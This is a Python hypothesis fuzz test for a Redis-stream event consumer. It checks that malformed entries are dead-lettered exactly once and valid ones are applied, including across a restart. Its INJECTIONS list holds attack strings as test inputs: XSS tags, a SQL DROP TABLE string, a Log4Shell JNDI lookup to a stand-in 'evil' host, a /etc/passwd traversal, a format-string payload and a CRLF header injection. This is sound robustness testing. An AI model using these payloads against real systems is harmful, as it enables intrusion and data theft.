"""Fuzz (issue 8): property-based stream entries, good and bad, XADDed as bytes to a real Redis.

Each example is a batch of entries built from small hypothesis "specs" (kind + a few draws),
so ~10k entries per run cost a few dozen Redis round trips, not 10k. Good entries are valid by
construction (odd unicode, injection strings, huge values, thousands of fields, extreme offsets);
bad ones carry one defect the contract rejects (invalid UTF-8 in a name or value, a missing or
out-of-range field, an impossible time, a wrong stream...). The oracle is the construction itself,
not the parser: every bad entry is dead-lettered exactly once with a reason, across a restart
too, and every good one is applied.
"""

from __future__ import annotations

import logging
import math
import random
import re
from collections import Counter
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
import redis
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from data_feed.connection import bytes_client as raw_client
from data_feed.contract import EVENT_TYPES
from tests.events import REQUIRED
from tests.helpers import drain, make_runtime

INJECTIONS = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE cases; --",
    "${jndi:ldap://evil/x}", "{{7*7}}", "%s%s%s%n", "../../../../etc/passwd", "\r\nSet-Cookie: a=b",
    "\x00", "\u202eevil", "👍🏽‍👩‍👩‍👧", "Ω≈ç√∫", "𝕳𝖊𝖑𝖑𝖔", "\ufeff", "null", "undefined", "NaN",
    "١٢٣", "ｆｕｌｌ", "*", "$", "0-0", "grid:events", "EVAL \"return 1\" 0", "\\u0000",
]
"""Strings that break naive code: markup, SQL, template and log injection, odd unicode."""

TEXT = st.one_of(st.sampled_from(INJECTIONS),
                 st.text(st.characters(codec="utf-8"), min_size=1, max_size=24))
"""Any valid UTF-8 text (no surrogates), often hostile."""

BAD_NUMBERS = ["NaN", "nan", "inf", "-inf", "Infinity", "1e400", "-1e400", "abc", "0x10", "1,5", "9" * 400,
               "--1", "1e", ".", "1..2", "∞", "true", "-" + "9" * 30]
"""Numbers every reading of the contract rejects (not a number, or out of any range)."""

OUT_OF_RANGE = {"lat": ["91", "-90.0001", "1000"], "lon": ["180.5", "-180.5", "361"], "battery": ["101", "-1"]}
"""Numbers outside the range of one field."""

BAD_TIMES = ["9999-12-31T23:59:59+08:00", "1970-01-01T00:00:00+00:00", "2026-05-20T08:00:00",
             "yesterday", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59",
             "0001-01-01T00:00:00-23:59", "2026-13-01T00:00:00+08:00", "2026-02-30T00:00:00+08:00",
             "2026-05-20T25:00:00+08:00", "2026-05-20T08:00:00+24:00", "t" * 100_000]
"""Timestamps the contract (with GRID_MAX_FUTURE_S / GRID_MAX_AGE_DAYS) rejects."""

OFFSETS = [timezone(timedelta(hours=h, minutes=m)) for h, m in
           ((8, 0), (14, 0), (-12, 0), (5, 45), (-9, -30), (0, 0), (23, 59), (-23, -59))]
"""UTC offsets, including the extremes fromisoformat accepts."""

ENUMS = {"channel": {"patrol", "hotline", "wechat", "web", "department"}, "priority": {"normal", "urgent", "hazard"}}

GOOD_KINDS = ["report", "report", "position", "position", "checkpoint", "close", "dup"]
BAD_KINDS = ["utf8_value", "utf8_name", "missing", "bad_type", "bad_number", "bad_enum", "bad_time",
             "wrong_stream", "bad_version", "bad_score", "second_report", "huge_bad"]

SPEC = st.tuples(st.sampled_from(GOOD_KINDS + BAD_KINDS), TEXT, st.integers(0, 2**32))
"""One entry to build: its kind, a text and a seed for the rest (few choices: large batches stay cheap)."""


def _odd_text(rng: random.Random) -> str:
    if rng.random() < 0.5:
        return rng.choice(INJECTIONS)
    planes = (0x20, 0x7F, 0xA0, 0x3000, 0x4E00, 0xFFF0, 0x1F300, 0xE0000)
    chars = []
    for _ in range(rng.randint(1, 12)):
        c = rng.choice(planes) + rng.randrange(64)
        chars.append(chr(c) if not 0xD800 <= c < 0xE000 else "?")
    return "".join(chars)


def expand(spec: tuple[str, str, int]) -> dict[str, Any]:
    """The draws an entry is built from, derived from its spec."""
    kind, text, seed = spec
    rng = random.Random(seed)
    return {
        "kind": kind, "text": text, "text2": _odd_text(rng), "pick": rng.randrange(10**6),
        "bytes": rng.randbytes(rng.randrange(12)),
        "age_s": rng.randint(-200, 120) if rng.random() < 0.5 else rng.randint(-200, 20 * 86400),
        "offset": rng.choice(OFFSETS), "micro": rng.random() < 0.5,
        "lat": rng.choice([-90.0, 90.0, 0.0, -0.0, rng.uniform(-90, 90), rng.uniform(-90, 90)]),
        "lon": rng.choice([-180.0, 180.0, 0.0, rng.uniform(-180, 180), rng.uniform(-180, 180)]),
        "size": rng.choice([0] * 30 + [1, 300, 20_000, 200_000]),
        "fields": rng.choice([0] * 30 + [50, 3000, 5000]),
    }


def _num(x: float) -> str:
    # how producers write degrees: plain decimals, sometimes integers
    return str(int(x)) if x == int(x) and abs(x) < 1e6 else f"{x:.7f}"


def _ts(now: float, spec: dict[str, Any]) -> str:
    when = datetime.fromtimestamp(now - spec["age_s"], spec["offset"])
    return when.isoformat(timespec="microseconds" if spec["micro"] else "seconds")


def _not_iso_with_offset(text: str) -> bool:
    try:
        return datetime.fromisoformat(text).tzinfo is None
    except ValueError:
        return True


class Batch:
    """Entries built from specs, with what each one must become."""

    def __init__(self, now: float, tag: str) -> None:
        self.now = now
        self.tag = tag
        self.entries: list[tuple[str, dict[Any, Any]]] = []  # (stream, fields) in XADD order
        self.bad: list[int] = []  # indexes of entries the contract rejects
        self.reports: list[dict[str, str]] = []  # good reports, in order
        self.closed: set[str] = set()
        self.wardens: dict[str, tuple[float, float, float]] = {}
        self.checkpoints: set[str] = set()
        self.n = 0

    def uid(self, text: str) -> str:
        self.n += 1
        return f"{text}#{self.tag}{self.n}"

    def good(self, stream: str, fields: dict[Any, Any]) -> None:
        self.entries.append((stream, fields))

    def reject(self, stream: str, fields: dict[Any, Any]) -> None:
        self.bad.append(len(self.entries))
        self.entries.append((stream, fields))

    # ------------------------------------------------------------------ good entries
    def report(self, s: dict[str, Any]) -> dict[str, str]:
        e = {"type": "case.reported", "ts": _ts(self.now, s), "case_id": self.uid(s["text"]),
             "channel": sorted(ENUMS["channel"])[s["pick"] % 5], "category": s["text2"],
             "lat": _num(s["lat"]), "lon": _num(s["lon"]), "event_id": self.uid("r")}
        if s["pick"] % 3:
            e["priority"] = sorted(ENUMS["priority"])[s["pick"] % 3]
        if s["size"]:
            e["description"] = "描述" * (s["size"] // 2)
            e["query_code"] = s["text"] * max(1, s["size"] // 1000)
        e["reporter_phone"] = s["text2"]
        for k in range(s["fields"]):
            e[f"x-{k}-{s['text'][:5]}"] = s["text2"]
        return e

    def add_good(self, s: dict[str, Any]) -> None:
        kind = s["kind"]
        if kind == "report" or (kind in ("close", "dup") and not self.reports):
            e = self.report(s)
            self.reports.append(e)
            self.good("grid:events", e)
        elif kind == "position":
            warden = self.uid(s["text"])
            ts = _ts(self.now, {**s, "age_s": s["age_s"] if s["pick"] % 2 else s["pick"] * 60})  # up to ~700 days old
            e = {"type": "warden.position", "ts": ts, "warden_id": warden, "lat": _num(s["lat"]),
                 "lon": _num(s["lon"])}
            if s["pick"] % 4 == 0:
                e.update(battery=str(s["pick"] % 101), speed_mps="0", accuracy_m="1000000")
            self.wardens[warden] = (float(e["lat"]), float(e["lon"]), datetime.fromisoformat(ts).timestamp())
            self.good("grid:positions", e)
        elif kind == "checkpoint":
            cp = self.uid(s["text"])
            e = {"type": "checkpoint.registered", "ts": _ts(self.now, s), "checkpoint_id": cp,
                 "category": s["text2"], "lat": _num(s["lat"]), "lon": _num(s["lon"]),
                 "name": "名" * s["size"] or s["text"], "street_id": s["text2"]}
            self.checkpoints.add(cp)
            self.good("grid:events", e)
        elif kind == "close":
            rep = self.reports[s["pick"] % len(self.reports)]
            self.closed.add(rep["case_id"])
            self.good("grid:events", {"type": "case.closed", "ts": rep["ts"], "case_id": rep["case_id"],
                                      "verified_by": s["text"], "event_id": self.uid("c")})
        elif kind == "dup":  # the producer retries: same event_id, applied once, never dead-lettered
            self.good("grid:events", dict(self.reports[s["pick"] % len(self.reports)]))

    # ------------------------------------------------------------------ bad entries
    def add_bad(self, s: dict[str, Any]) -> None:
        kind = s["kind"]
        base = self.report(s)
        pos = {"type": "warden.position", "ts": _ts(self.now, s), "warden_id": self.uid(s["text"]),
               "lat": _num(s["lat"]), "lon": _num(s["lon"])}
        positions = s["pick"] % 2 == 0
        stream, entry = ("grid:positions", pos) if positions else ("grid:events", base)
        if kind == "utf8_value":
            raw: dict[Any, Any] = {k.encode(): v.encode() for k, v in entry.items()}
            name = sorted(raw)[s["pick"] % len(raw)]
            raw[name] = s["bytes"][:4] + b"\xff\xfe\xc3(" + s["bytes"][4:]
            self.reject(stream, raw)
        elif kind == "utf8_name":
            raw = {k.encode(): v.encode() for k, v in entry.items()}
            raw[b"\x80" + s["bytes"] + b"\xc0\xaf"] = s["text"].encode()
            self.reject(stream, raw)
        elif kind == "missing":
            etype = entry["type"]
            name = (("type", "ts") + REQUIRED[etype])[s["pick"] % (2 + len(REQUIRED[etype]))]
            entry = dict(entry)
            if s["micro"]:
                del entry[name]
            else:
                entry[name] = ""  # an empty required field is missing too
            self.reject(stream, entry)
        elif kind == "bad_type":
            etype = s["text"] if s["text"] not in EVENT_TYPES else "case.unknown"
            self.reject("grid:events", {**base, "type": etype})
        elif kind == "bad_number":
            field = ("lat", "lon", "battery" if positions else "lat")[s["pick"] % 3]
            values = BAD_NUMBERS + OUT_OF_RANGE[field]
            self.reject(stream, {**entry, field: values[s["pick"] // 3 % len(values)]})
        elif kind == "bad_enum":
            field = ("channel", "priority")[s["pick"] % 2]
            value = s["text"] if s["text"] not in ENUMS[field] else s["text"] + "!"
            self.reject("grid:events", {**base, field: value})
        elif kind == "bad_time":
            choice = s["pick"] % (len(BAD_TIMES) + 4)
            if choice < len(BAD_TIMES):
                ts = BAD_TIMES[choice]
            elif choice == len(BAD_TIMES):
                ts = _ts(self.now, {**s, "age_s": -3600})  # an hour in the future (> GRID_MAX_FUTURE_S)
            elif choice == len(BAD_TIMES) + 1:
                ts = _ts(self.now, {**s, "age_s": 800 * 86400})  # > GRID_MAX_AGE_DAYS
            else:
                ts = s["text"] if _not_iso_with_offset(s["text"]) else "not a time"
            self.reject(stream, {**entry, "ts": ts})
        elif kind == "wrong_stream":
            self.reject("grid:events" if positions else "grid:positions", entry)
        elif kind == "bad_version":
            self.reject(stream, {**entry, "v": s["text"] if s["text"] != "1" else "2"})
        elif kind == "bad_score":
            case = self.reports[-1]["case_id"] if self.reports else base["case_id"]
            score = ["0", "6", "5.0", " 5", "five", "-1", "10", s["text"] + "x"][s["pick"] % 8]
            self.reject("grid:events", {"type": "case.rated", "ts": _ts(self.now, s), "case_id": case,
                                        "satisfied": "true", "score": score})
        elif kind == "second_report":
            if not self.reports:
                return self.add_good({**s, "kind": "report"})
            again = dict(self.reports[s["pick"] % len(self.reports)], event_id=self.uid("again"))
            self.reject("grid:events", again)
        elif kind == "huge_bad":  # thousands of fields and a 1 MB value, rejected: still dead-lettered
            huge = {**entry, "ts": "not a time", "blob": "x" * (s["size"] * 5)}  # up to 1 MB
            huge.update({f"f{k}": s["text"] for k in range(s["fields"] and s["fields"] + s["pick"] % 2000)})
            self.reject(stream, huge)

    def add(self, s: dict[str, Any]) -> None:
        (self.add_good if s["kind"] in GOOD_KINDS else self.add_bad)(s)


def _deadletters(raw: redis.Redis) -> Iterator[dict[bytes, bytes]]:
    for _, fields in raw.xrange("grid:deadletter"):
        yield fields


def _xadd_all(raw: redis.Redis, entries: list[tuple[str, dict[Any, Any]]]) -> list[tuple[str, str]]:
    pipe = raw.pipeline(transaction=False)
    for stream, fields in entries:
        pipe.xadd(stream, fields)
    return [(stream, entry_id.decode()) for (stream, _), entry_id in zip(entries, pipe.execute(), strict=True)]


@pytest.fixture
def quiet_logs() -> Iterator[None]:
    # thousands of rejections are logged on purpose: keep the run's output readable
    logging.disable(logging.ERROR)
    yield
    logging.disable(logging.NOTSET)


@settings(max_examples=100, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                 HealthCheck.large_base_example, HealthCheck.function_scoped_fixture])
@given(specs=st.lists(SPEC, min_size=80, max_size=120))
def test_fuzzed_entries_never_crash_bad_ones_are_dead_lettered_once_good_ones_applied(
        redis_server: redis.Redis, quiet_logs: None, specs: list[tuple[str, str, int]]) -> None:
    redis_server.flushdb()
    raw = raw_client(redis_server)
    seconds, micros = redis_server.time()
    batch = Batch(seconds + micros / 1e6, "f")
    for spec in specs:
        batch.add(expand(spec))
    ids = _xadd_all(raw, batch.entries)
    expected_bad = {ids[i] for i in batch.bad}

    rt = make_runtime(redis_server, READ_COUNT=97)  # many small reads: bad entries land in every position
    drain(rt)  # raises if the consumer crashes on any entry
    letters = list(_deadletters(raw))
    written = Counter((f[b"stream"].decode(), f[b"entry_id"].decode()) for f in letters)
    assert all(n == 1 for n in written.values()), [k for k, n in written.items() if n > 1][:5]
    missing, extra = expected_bad - set(written), set(written) - expected_bad
    assert not missing and not extra, {
        "bad entries not dead-lettered": [batch.entries[ids.index(k)][1].get("type") for k in list(missing)[:5]],
        "good entries dead-lettered": [f[b"error"][:200] for f in letters
                                       if (f[b"stream"].decode(), f[b"entry_id"].decode()) in extra][:5]}
    for f in letters:
        reason = f[b"error"].decode()
        assert reason and not reason.startswith("internal error"), reason[:300]
    assert rt.consumer.status.deadlettered == len(expected_bad) and not rt.consumer._unwritten

    state = rt.state
    for rep in batch.reports:
        case = state.cases[rep["case_id"]]
        assert case.state == ("closed" if rep["case_id"] in batch.closed else "reported")
    assert len(state.cases) == len(batch.reports)  # duplicates and second reports made no case
    for warden, (lat, lon, ts) in batch.wardens.items():
        got = state.wardens[warden]
        assert (got[0], got[1]) == (lat, lon) and math.isclose(got[2], ts)
    assert batch.checkpoints <= set(state.checkpoints)

    # A restart (a fresh process over the same history) decides the same and writes nothing new.
    again = make_runtime(redis_server, READ_COUNT=1000, POSITION_LOOKBACK_S=10**9)
    drain(again)
    assert raw.xlen("grid:deadletter") == len(letters)
    assert again.consumer.status.deadlettered == 0
    assert {c: k.state for c, k in again.state.cases.items()} == {c: k.state for c, k in state.cases.items()}


# ---------------------------------------------------------------------- number formats (issue 8, item 6)
CONTRACT_DECIMAL = re.compile(r"-?[0-9]+(\.[0-9]+)?\Z")
"""What "WGS84 decimal degrees" means on the wire: ASCII digits, an optional sign and point."""

NEAR_NUMBERS = st.one_of(
    st.sampled_from(["４１.１", "4_1.1", " 41.1", "41.1 ", "41.1\n", "\t41", "+41.1", "41.", ".5", "1e1",
                     "٤١.١", "41.1\u200b", "0041.10", "-0", "41.12", "-33.5"]),
    st.from_regex(r"\A[ +\-_.0-9０-９eE\t]{1,8}\Z"),
)
"""Strings that look like degrees: full-width or Arabic-Indic digits, underscores, padding."""


@settings(max_examples=60, deadline=None, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(lat=NEAR_NUMBERS)
def test_only_contract_decimals_pass_as_coordinates(redis_server: redis.Redis, quiet_logs: None, lat: str) -> None:
    redis_server.flushdb()
    seconds = redis_server.time()[0]
    ts = datetime.fromtimestamp(seconds, OFFSETS[0]).isoformat()
    entry_id = redis_server.xadd("grid:events", {"type": "case.reported", "ts": ts, "case_id": "K",
                                                 "channel": "web", "category": "lamp", "lat": lat, "lon": "122.1"})
    rt = make_runtime(redis_server)
    drain(rt)
    letters = [f["entry_id"] for _, f in redis_server.xrange("grid:deadletter")]
    if CONTRACT_DECIMAL.match(lat) and -90 <= float(lat) <= 90:
        assert "K" in rt.state.cases and not letters
    elif set(lat) - set("0123456789.+-eE"):  # other digits, underscores, spaces: never degrees
        assert "K" not in rt.state.cases, f"lat={lat!r} passed as a coordinate"
        assert letters == [entry_id]
    else:  # forms such as '41.', '+41.1' or '1e1': either way, but exactly one of the two
        assert ("K" in rt.state.cases) != (letters == [entry_id])
